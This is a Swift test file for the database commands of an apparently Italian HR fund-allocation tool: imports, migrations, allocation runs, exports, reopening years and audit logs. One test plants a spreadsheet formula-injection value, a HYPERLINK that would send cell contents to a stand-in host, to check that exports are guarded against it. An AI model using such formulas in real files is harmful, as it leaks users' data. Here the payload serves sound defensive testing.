import Foundation
import Postgres
import SIPAVTestSupport
import Testing

/// The `db` commands on a database of the test's own, as an HR office runs them: `--database <conninfo>`.
@Suite("The db commands")
struct DatabaseCommandTests {
    static let config = Sipav.packageRoot.appendingPathComponent("Config/example-redistribute.yaml").path

    static func migrations() throws -> [String] {
        try FileManager.default.contentsOfDirectory(atPath: Sipav.packageRoot.appendingPathComponent("SQL").path)
            .filter { $0.range(of: #"^\d{4}_.*\.sql$"#, options: .regularExpression) != nil }.sorted().map { String($0.dropLast(4)) }
    }

    /// A year imported with its ratings is being rated; one imported for planning, unrated, stays in planning until
    /// HR opens it for rating (the web takes ratings only then).
    @Test func aYearImportedWithRatingsIsBeingRated() throws {
        let database = try TestDatabase.create(schema: false)
        defer { database.drop() }
        let year = try ScratchYear()
        defer { year.remove() }
        let objectives = try year.lines("objectives.csv")
        try year.write("objectives.csv", lines: objectives.enumerated().map { index, line in
            guard index > 0, !line.isEmpty else { return line }
            var fields = line.components(separatedBy: ";")
            (fields[4], fields[5]) = ("", "")
            return fields.joined(separator: ";")
        })
        #expect(try db(["import", "--planning", "--body", "piano", "--data", year.folder.path], on: database).status == 0)
        #expect(try db(["import", "--body", "demo"], on: database).status == 0)
        let years = try #require(try report(["status"], on: database)["years"] as? [[String: Any]])
        let states = Dictionary(uniqueKeysWithValues: years.compactMap { row in (row["body"] as? String).map { ($0, row["state"] as? String) } })
        #expect(states["piano"] == "planning", "\(years)")
        #expect(states["demo"] == "rating", "\(years)")
    }

    /// `db status` tells HR the state of each year in Italian; its JSON keeps the state's code for programs, and gives
    /// the year as a number.
    @Test func statusNamesTheYearStateInItalianAndKeepsItsCodeInJSON() throws {
        let database = try TestDatabase.create(schema: false)
        defer { database.drop() }
        let imported = try db(["import", "--body", "demo"], on: database)
        try #require(imported.status == 0, "\(imported.standardError)")
        let italian = ["planning": "in programmazione", "rating": "in valutazione", "validated": "riaperto (da ripartire)",
                       "allocated": "ripartito (chiuso)", "published": "pubblicato (chiuso)"]

        let json = try #require(try report(["status"], on: database)["years"] as? [[String: Any]])
        let code = try #require(json.first?["state"] as? String)
        let name = try #require(italian[code], "an unknown state code: \(code)")
        #expect(json.first?["year"] as? Int == 2019, "the year is a number in JSON: \(json)")

        let table = try db(["status"], on: database)
        #expect(table.status == 0, "\(table.standardError)")
        let line = try #require(table.standardOutput.split(separator: "\n").first { $0.hasPrefix("demo") })
        #expect(line.contains(name), "\(line)")
        #expect(!line.contains(code), "\(line)")
        #expect(line.contains(" 2019 "), "the year without a thousands separator: \(line)")
        let csv = try db(["status", "--format", "csv"], on: database)
        #expect(csv.standardOutput.contains(";\(name);"), "\(csv.standardOutput)")
    }

    /// Each person's cents and each fund's totals, from `db report allocation --format json`.
    func cents(body: String, on database: TestDatabase) throws -> (people: [String: Int64], funds: [String]) {
        let allocation = try report(["report", "allocation", "--body", body, "--year", "2019"], on: database)
        let amounts = try #require(allocation["amounts"] as? [[String: Any]])
        var people: [String: Int64] = [:]
        for row in amounts {
            people[try #require(row["employee_id"] as? String)] = try #require(row["amount_cents"] as? NSNumber).int64Value
        }
        let funds = try #require(allocation["funds"] as? [[String: Any]]).map { fund in
            ["fund", "fund_cents", "paid_cents", "residual_cents"].map { "\(fund[$0] ?? "")" }.joined(separator: " ")
        }
        return (people, funds)
    }

    @Test func migrateListsWithDryRunThenAppliesOnce() throws {
        let database = try TestDatabase.create(schema: false)
        defer { database.drop() }
        let all = try Self.migrations()

        let dry = try db(["migrate", "--dry-run"], on: database)
        #expect(dry.status == 0, "\(dry.standardError)")
        #expect(dry.standardOutput.split(separator: "\n") == all.map { "Da applicare: \($0)"[...] }
                + ["Provate sui dati del database in una transazione poi annullata: si applicano. Nulla è stato cambiato."])
        let applied = try db(["migrate"], on: database)
        #expect(applied.status == 0, "\(applied.standardError)")
        #expect(applied.standardOutput.split(separator: "\n") == all.map { "Applicata: \($0)"[...] })
        let again = try db(["migrate"], on: database)
        #expect(again.status == 0)
        #expect(again.standardOutput == "Schema aggiornato: nessuna migrazione da applicare.\n")
    }

    @Test func importRunReportExportAndReimportGiveTheSameCents() throws {
        let database = try TestDatabase.create(schema: false)
        defer { database.drop() }
        let demo = Sipav.demoFolder.path

        let imported = try db(["import", "--body", "demo", "--data", demo, "--config", Self.config, "--actor", "hr.rossi"], on: database)
        #expect(imported.status == 0, "\(imported.standardError)")
        #expect(imported.standardOutput.contains("Importato: nuovo ente demo, anno 2019: 277 persone"))
        // Texts a spreadsheet would run as formulas, and one that truly starts with an apostrophe: the export writes them
        // guarded, the import reads them back as they were.
        let formula = "=HYPERLINK(\"http://x/?\"&A1;\"Clicca\")"
        try database.withConnection { db in
            _ = try db.execute("""
                UPDATE individual_objectives SET title = $1
                WHERE (employee_id, code) = (SELECT employee_id, code FROM individual_objectives ORDER BY employee_id, code LIMIT 1)
                """, [formula])
            _ = try db.execute("UPDATE employees SET name = $1 WHERE employee_id = (SELECT min(employee_id) FROM employees)", ["'-Rossi"])
            _ = try db.execute("UPDATE staff_years SET not_assessable_reason = $1 WHERE employee_id = 'E0110'",
                               ["+ di sei mesi di assenza"])
        }
        let run = try db(["run", "--body", "demo", "--year", "2019", "--actor", "hr.rossi"], on: database)
        #expect(run.status == 0, "\(run.standardError)")
        #expect(run.standardOutput.contains("Ripartizione registrata"))

        let statistics = try report(["report", "statistics", "--body", "demo", "--year", "2019"], on: database)
        let summary = try #require(statistics["summary"] as? [[String: Any]])
        let everyone = try #require(summary.first { ($0["group"] as? String) == "Tutto il personale" })
        #expect((everyone["people"] as? NSNumber)?.intValue == 277)

        let exported = FileManager.default.temporaryDirectory.appendingPathComponent("sipav-export-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: exported) }
        let export = try db(["export", "--body", "demo", "--year", "2019", "-o", exported.path], on: database)
        #expect(export.status == 0, "\(export.standardError)")
        let files = try FileManager.default.contentsOfDirectory(atPath: exported.path).sorted()
        #expect(files == ["fund.yaml", "objectives.csv", "plan.yaml", "settings.yaml", "staff.csv"])
        for file in files {
            let permissions = try FileManager.default.attributesOfItem(atPath: exported.appendingPathComponent(file).path)[.posixPermissions] as? Int
            #expect(permissions == 0o600, "\(file): personal data, readable by its owner only")
        }

        let copy = try db(["import", "--body", "copia", "--data", exported.path, "--config", exported.appendingPathComponent("settings.yaml").path],
                          on: database)
        #expect(copy.status == 0, "\(copy.standardError)")
        #expect(try db(["run", "--body", "copia", "--year", "2019"], on: database).status == 0)

        let original = try cents(body: "demo", on: database)
        let reimported = try cents(body: "copia", on: database)
        #expect(original.people.count == 277)
        #expect(reimported.people == original.people)
        #expect(reimported.funds == original.funds)
        let texts = { (body: String) in
            try database.withConnection { db in
                try db.execute("""
                    SELECT (SELECT string_agg(employee_id || code || title, '|' ORDER BY employee_id, code) FROM individual_objectives WHERE body_id = $1)
                        || (SELECT string_agg(employee_id || name, '|' ORDER BY employee_id) FROM employees WHERE body_id = $1)
                        || (SELECT string_agg(employee_id || coalesce(not_assessable_reason, '-'), '|' ORDER BY employee_id) FROM staff_years WHERE body_id = $1) AS t
                    """, [body])[0].string("t")
            }
        }
        #expect(try texts("copia") == texts("demo"))
        #expect(try texts("copia").contains(formula) && texts("copia").contains("'-Rossi") && texts("copia").contains("+ di sei mesi"))

        let status = try report(["status"], on: database)
        let years = try #require(status["years"] as? [[String: Any]]).map { "\($0["body"] ?? "") \($0["state"] ?? "")" }
        #expect(years == ["copia allocated", "demo allocated"])
    }

    @Test func importWithAllocateStoresTheCentsOfImportThenRunInOneGo() throws {
        let (together, apart) = (try TestDatabase.create(schema: false), try TestDatabase.create(schema: false))
        defer { together.drop(); apart.drop() }
        let files = ["--body", "demo", "--data", Sipav.demoFolder.path, "--config", Self.config, "--actor", "hr.rossi"]

        let both = try db(["import", "--allocate"] + files, on: together)
        #expect(both.status == 0, "\(both.standardError)")
        #expect(both.standardOutput.contains("Importato e ripartito: nuovo ente demo, anno 2019: 277 persone"), "\(both.standardOutput)")
        #expect(both.standardOutput.contains("Personale non dirigente: 273 persone, fondo "), "\(both.standardOutput)")
        #expect(try db(["import"] + files, on: apart).status == 0)
        #expect(try db(["run", "--body", "demo", "--year", "2019", "--actor", "hr.rossi"], on: apart).status == 0)

        let (fromTogether, fromApart) = (try cents(body: "demo", on: together), try cents(body: "demo", on: apart))
        #expect(fromTogether.people.count == 277)
        #expect(fromTogether.people == fromApart.people)
        #expect(fromTogether.funds == fromApart.funds)
        let verified = try db(["verify", "--body", "demo", "--year", "2019"], on: together)
        #expect(verified.status == 0, "\(verified.standardError)")

        let planning = try db(["import", "--allocate", "--planning"] + files, on: apart)
        #expect(planning.status == 64)
        #expect(planning.standardError.contains("--allocate e --planning si escludono"), "\(planning.standardError)")
    }

    /// A year stored with settings of its own keeps them: importing it again without any is refused, nothing changed;
    /// with them (here the folder's settings.yaml, as an export writes it) it goes through. An export of a year
    /// without settings removes a settings.yaml an earlier export left in the folder.
    @Test func aReimportDoesNotDropTheYearsSettingsWithoutAWord() throws {
        let database = try TestDatabase.create(schema: false)
        defer { database.drop() }
        let demo = Sipav.demoFolder.path
        #expect(try db(["import", "--body", "demo", "--data", demo, "--config", Self.config], on: database).status == 0)
        let stored = { try database.withConnection { try $0.execute("SELECT settings_yaml IS NOT NULL AS s FROM years").first?.bool("s") } }
        let refused = try db(["import", "--body", "demo", "--data", demo], on: database)
        #expect(refused.status == 65)
        #expect(refused.standardError.contains("è registrato con impostazioni proprie"), "\(refused.standardError)")
        #expect(try stored() == true)

        let year = try ScratchYear()
        defer { year.remove() }
        try FileManager.default.copyItem(atPath: Self.config, toPath: year.path("settings.yaml"))
        let again = try db(["import", "--body", "demo", "--data", year.folder.path], on: database)
        #expect(again.status == 0, "\(again.standardError)")
        #expect(try stored() == true)

        #expect(try db(["import", "--body", "semplice", "--data", demo], on: database).status == 0)
        // Into a folder that has the files, only when told so; nothing is written otherwise.
        let before = try year.lines("staff.csv")
        let kept = try db(["export", "--body", "semplice", "--year", "2019", "-o", year.folder.path], on: database)
        #expect(kept.status == 66)
        #expect(kept.standardError.contains("contiene già i file fund.yaml, objectives.csv, plan.yaml, settings.yaml, staff.csv"),
                "\(kept.standardError)")
        #expect(kept.standardError.contains("aggiunga --force"))
        #expect(FileManager.default.fileExists(atPath: year.path("settings.yaml")))
        let after = try year.lines("staff.csv")
        #expect(after == before)
        let export = try db(["export", "--body", "semplice", "--year", "2019", "-o", year.folder.path, "--force"], on: database)
        #expect(export.status == 0, "\(export.standardError)")
        #expect(!FileManager.default.fileExists(atPath: year.path("settings.yaml")))
        #expect(export.standardOutput.contains("Rimosso"))
    }

    /// `db demo` over a demo year stored with settings of its own, given none, is refused before it reopens the year:
    /// the year stays allocated, with no reopening on record.
    @Test func theDemoDoesNotReopenAYearItWillNotImport() throws {
        let database = try TestDatabase.create(schema: false)
        defer { database.drop() }
        let allocated = try db(["import", "--allocate", "--body", "demo", "--data", Sipav.demoFolder.path, "--config", Self.config],
                               on: database)
        try #require(allocated.status == 0, "\(allocated.standardError)")
        let refused = try db(["demo", "--body", "demo"], on: database)
        #expect(refused.status == 65)
        #expect(refused.standardError.contains("è registrato con impostazioni proprie"), "\(refused.standardError)")
        let (state, reopenings) = try database.withConnection { db in
            (try db.execute("SELECT state FROM years")[0].string("state"),
             try db.execute("SELECT count(*) AS n FROM year_reopenings")[0].int("n"))
        }
        #expect(state == "allocated" && reopenings == 0, "\(state), \(reopenings) reopenings")
    }

    /// A year that cannot be allocated for a rule of its records (a missing confirmation) is invalid data (65), not
    /// a missing file (66), from the database as from the files.
    @Test func aYearThatBreaksARuleExits65FromTheDatabase() throws {
        let database = try TestDatabase.create(schema: false)
        defer { database.drop() }
        let year = try ScratchYear()
        defer { year.remove() }
        try year.removeLines("fund.yaml", from: "giunta:", count: 3)
        #expect(try db(["import", "--body", "demo", "--data", year.folder.path], on: database).status == 0)
        for command in [["run"], ["report", "allocation"]] {
            let run = try db(command + ["--body", "demo", "--year", "2019"], on: database)
            #expect(run.status == 65, "\(command): \(run.standardError)")
            #expect(run.standardError.contains("Giunta"), "\(run.standardError)")
        }
    }

    /// An open year's report is a preview, marked as such; an allocated year's is printed only while the allocation
    /// recomputed from its records is the one on record: an amount changed on record stops it, naming the person.
    @Test func aReportIsAPreviewUntilAllocatedThenOnlyTheRecordsOwn() throws {
        let database = try TestDatabase.create(schema: false)
        defer { database.drop() }
        let files = ["--body", "demo", "--data", Sipav.demoFolder.path, "--config", Self.config]
        #expect(try db(["import"] + files, on: database).status == 0)
        let preview = try report(["report", "allocation", "--body", "demo", "--year", "2019"], on: database)
        #expect((preview["title"] as? String)?.hasPrefix("Anteprima – Ripartizione del fondo 2019") == true, "\(preview["title"] ?? "")")
        let run = try db(["run", "--body", "demo", "--year", "2019"], on: database)
        #expect(run.standardOutput.contains("l'anno è ora ripartito (chiuso)."), "\(run.standardOutput)")
        let allocated = try report(["report", "allocation", "--body", "demo", "--year", "2019"], on: database)
        #expect((allocated["title"] as? String)?.hasPrefix("Ripartizione del fondo 2019") == true)

        try database.withConnection { db in
            try db.execute("SET session_replication_role = replica")
            try db.execute("UPDATE allocations SET amount_cents = amount_cents + 1 WHERE body_id = 'demo' AND employee_id = 'E0001'")
        }
        let refused = try db(["report", "allocation", "--body", "demo", "--year", "2019"], on: database)
        #expect(refused.status == 65)
        #expect(refused.standardError.contains("la ripartizione registrata differisce"), "\(refused.standardError)")
        #expect(refused.standardError.contains("E0001: registrato"))
        #expect(refused.standardOutput.isEmpty)
        #expect(try db(["report", "organisation", "--body", "demo", "--year", "2019"], on: database).status == 0)

        // The right cents beside another score are not the record either: the report compares every figure.
        try database.withConnection { db in
            try db.execute("SET session_replication_role = replica")
            try db.execute("UPDATE allocations SET amount_cents = amount_cents - 1 WHERE body_id = 'demo' AND employee_id = 'E0001'")
            try db.execute("UPDATE allocations SET share_numerator = share_numerator + 1 WHERE body_id = 'demo' AND employee_id = 'E0002'")
        }
        let otherFigure = try db(["report", "allocation", "--body", "demo", "--year", "2019"], on: database)
        #expect(otherFigure.status == 65, "\(otherFigure.standardOutput)")
        #expect(otherFigure.standardError.contains("E0002"), "\(otherFigure.standardError)")
    }

    /// A year still being rated has its organisational results: they need no individual rating.
    @Test func theOrganisationalResultsOfAYearStillRated() throws {
        let database = try TestDatabase.create(schema: false)
        defer { database.drop() }
        let year = try ScratchYear()
        defer { year.remove() }
        try year.leaveUnrated(line: 8)
        #expect(try db(["import", "--planning", "--body", "demo", "--data", year.folder.path], on: database).status == 0)
        let organisation = try db(["report", "organisation", "--body", "demo", "--year", "2019"], on: database)
        #expect(organisation.status == 0, "\(organisation.standardError)")
        #expect(organisation.standardOutput.contains("da completare"))
        #expect(try db(["report", "allocation", "--body", "demo", "--year", "2019"], on: database).status == 65)
    }

    /// Importing the year again with one rating changed sends that person's submitted appraisal back to draft, and
    /// says so; an unchanged person's stays submitted.
    @Test func aReimportThatChangesASubmittedAppraisalSaysItGoesBackToDraft() throws {
        let database = try TestDatabase.create(schema: false)
        defer { database.drop() }
        let demo = Sipav.demoFolder
        let first = try db(["import", "--body", "demo", "--data", demo.path], on: database)
        try #require(first.status == 0, "\(first.standardError)")
        try database.withConnection { db in
            try db.execute("""
                INSERT INTO appraisal_submissions (body_id, year, employee_id, submitted_by)
                VALUES ('demo', 2019, 'DIR001', 'sg'), ('demo', 2019, 'DIR002', 'sg')
                """)
        }
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("sipav-reimport-\(UUID().uuidString)")
        try FileManager.default.copyItem(at: demo, to: folder)
        defer { try? FileManager.default.removeItem(at: folder) }
        let objectives = folder.appendingPathComponent("objectives.csv")
        let text = try String(contentsOf: objectives, encoding: .utf8)
        let rated = "DIR001;OB1;Riduzione dei tempi di evasione delle pratiche;25;6;A"
        try #require(text.contains(rated))
        try text.replacingOccurrences(of: rated, with: "DIR001;OB1;Riduzione dei tempi di evasione delle pratiche;25;5;A")
            .write(to: objectives, atomically: true, encoding: .utf8)

        let second = try db(["import", "--body", "demo", "--data", folder.path], on: database)

        #expect(second.status == 0, "\(second.standardError)")
        let notices = second.standardOutput.split(separator: "\n").filter { $0.contains("torna in bozza") }
        #expect(notices.count == 1 && notices[0].contains("(DIR001)"), "\(second.standardOutput)")
        let submitted = try database.withConnection { db in
            try db.execute("SELECT employee_id FROM appraisal_submissions ORDER BY 1").map { try $0.string("employee_id") }
        }
        #expect(submitted == ["DIR002"])
    }

    @Test func reopenWithoutAReasonIsAUsageError() throws {
        let database = try TestDatabase.create(schema: false)
        defer { database.drop() }
        let missing = try db(["reopen", "--body", "demo", "--year", "2019"], on: database)
        #expect(missing.status == 64)
        #expect(missing.standardError.contains("--reason"))
        let blank = try db(["reopen", "--body", "demo", "--year", "2019", "--reason", "  "], on: database)
        #expect(blank.status == 64)
        #expect(blank.standardError.contains("--reason"))
        #expect(blank.standardError.contains("non può essere vuoto: indichi il motivo della riapertura"), "\(blank.standardError)")
    }

    @Test func aLockedYearRefusesAnImportUntilReopened() throws {
        let database = try TestDatabase.create(schema: false)
        defer { database.drop() }
        let importDemo = ["import", "--body", "demo", "--data", Sipav.demoFolder.path]
        try #require(try db(importDemo, on: database).status == 0)
        try #require(try db(["run", "--body", "demo", "--year", "2019"], on: database).status == 0)

        let refused = try db(importDemo, on: database)
        #expect(refused.status == 65)
        #expect(refused.standardError.contains("l'anno 2019 dell'ente demo è ripartito: per importarlo di nuovo va prima riaperto"),
                "\(refused.standardError)")
        #expect(refused.standardError.contains("sipav db reopen"))

        let reopened = try db(["reopen", "--body", "demo", "--year", "2019", "--reason", "Rettifica richiesta dall'OIV", "--actor", "hr.verdi"],
                              on: database)
        #expect(reopened.status == 0, "\(reopened.standardError)")
        #expect(try db(importDemo, on: database).status == 65, "a reopened year is imported again with a reason")
        #expect(try db(importDemo + ["--reason", "Rettifica richiesta dall'OIV"], on: database).status == 0)
        // In Italian, as HR's page shows the log.
        let audit = try report(["audit", "--body", "demo", "--limit", "100000"], on: database)
        let entries = try #require(audit["entries"] as? [[String: Any]])
        #expect(entries.contains { ($0["table"] as? String) == "Riaperture dell'anno" && ($0["actor"] as? String) == "hr.verdi" })
        #expect(!entries.contains { ($0["operation"] as? String) == "INSERT" })
        let text = try db(["audit", "--body", "demo", "--limit", "5"], on: database)
        #expect(text.status == 0 && text.standardOutput.contains("Registro delle modifiche – ente demo"), "\(text.standardOutput)")
        // A body the database does not have is a bad value of the command line, as for every db command.
        let nobody = try db(["audit", "--body", "nessuno"], on: database)
        #expect(nobody.status == 64)
        #expect(nobody.standardError.contains("l'ente nessuno non è nel database"), "\(nobody.standardError)")
    }

    @Test func anUnreachableDatabaseExits69WithTheReason() throws {
        for command in [["migrate"], ["status"], ["import", "--body", "demo", "--data", Sipav.demoFolder.path]] {
            let run = try Sipav.run(["db"] + command + ["--database", "host=/nonexistent dbname=x"])
            #expect(run.status == 69, "\(command): \(run.standardError)")
            #expect(run.standardError.contains("nessun server PostgreSQL risponde sul socket /nonexistent/"), "\(run.standardError)")
        }
    }

    /// Guards against the wrong body: `db import` needs `--body` (it imported into "demo" without it), a plan whose
    /// body's name differs from the stored one is refused unless the body changed its name (another body's files under
    /// a mistyped id renamed it), and `db run` with an output file it cannot write stores nothing.
    @Test func theWrongBodyOrAnUnwritableOutputChangesNothing() throws {
        let database = try TestDatabase.create(schema: false)
        defer { database.drop() }
        let noBody = try db(["import", "--data", Sipav.demoFolder.path], on: database)
        #expect(noBody.status == 64, "\(noBody.standardError)")
        #expect(try db(["import", "--body", "demo", "--data", Sipav.demoFolder.path], on: database).status == 0)
        // A body or year the database does not have is a bad value of the command line, whichever command names it.
        for command in [["report", "scores"], ["verify"], ["reopen", "--reason", "prova"], ["export", "-o", "/tmp/sipav-non-scritto"]] {
            let unknown = try db(command + ["--body", "nessuno", "--year", "2019"], on: database)
            #expect(unknown.status == 64, "\(command): \(unknown.standardError)")
            #expect(unknown.standardError.contains("dell'ente nessuno non è nel database"), "\(command): \(unknown.standardError)")
        }
        let year = try ScratchYear()
        defer { year.remove() }
        try year.write("plan.yaml", lines: try year.lines("plan.yaml").map { $0.hasPrefix("body:") ? "body: \"Altro ente\"" : $0 })
        let renamed = try db(["import", "--body", "demo", "--data", year.folder.path], on: database)
        #expect(renamed.status == 65)
        #expect(renamed.standardError.contains("l'ente demo nel database si chiama «Camera di commercio di Torino (ente dimostrativo)», il piano lo chiama «Altro ente»"),
                "\(renamed.standardError)")
        let name = { try database.withConnection { try $0.execute("SELECT name FROM bodies WHERE body_id = 'demo'")[0].string("name") } }
        #expect(try name() == "Camera di commercio di Torino (ente dimostrativo)")
        #expect(try db(["import", "--body", "demo", "--data", year.folder.path, "--rename-body", "--reason", "Nuova denominazione"], on: database).status == 0)
        #expect(try name() == "Altro ente")

        let unwritable = try db(["run", "--body", "demo", "--year", "2019", "-o", "/nonexistent/ripartizione.txt"], on: database)
        #expect(unwritable.status == 66)
        #expect(unwritable.standardError.contains("nulla è stato registrato"), "\(unwritable.standardError)")
        let state = try database.withConnection { try $0.execute("SELECT state FROM years WHERE body_id = 'demo'")[0].string("state") }
        #expect(state != "allocated")
    }
}
